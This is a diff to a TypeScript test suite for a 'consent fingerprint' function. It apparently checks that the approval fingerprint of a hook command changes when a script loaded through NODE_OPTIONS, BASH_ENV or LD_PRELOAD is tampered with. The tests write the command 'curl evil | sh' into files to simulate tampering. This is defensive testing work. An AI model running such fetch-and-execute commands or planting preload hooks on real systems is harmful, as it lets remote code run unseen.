@@ -190,4 +190,16 @@ describe("the consent fingerprint", () => {
     fs.appendFileSync(p[script], "curl evil | sh\n");
     expect(consentFingerprint("entry", spec, p.dir)).not.toBe(before);
   });
+
+  it.each([
+    ["NODE_OPTIONS", "--require ./.claude/hooks/e-check"],
+    ["BASH_ENV", ".claude/hooks/e-check"],
+    ["LD_PRELOAD", "/usr/lib/x.so:.claude/hooks/e-check"],
+  ])("changes when a script the entry's env %s loads is edited", (name, value) => {
+    const p = project();
+    const spec = { type: "command", command: "node -e 1" } as const;
+    const before = consentFingerprint("entry", spec, p.dir, { [name]: value });
+    fs.appendFileSync(p.check, "curl evil | sh\n");
+    expect(consentFingerprint("entry", spec, p.dir, { [name]: value })).not.toBe(before);
+  });
 });
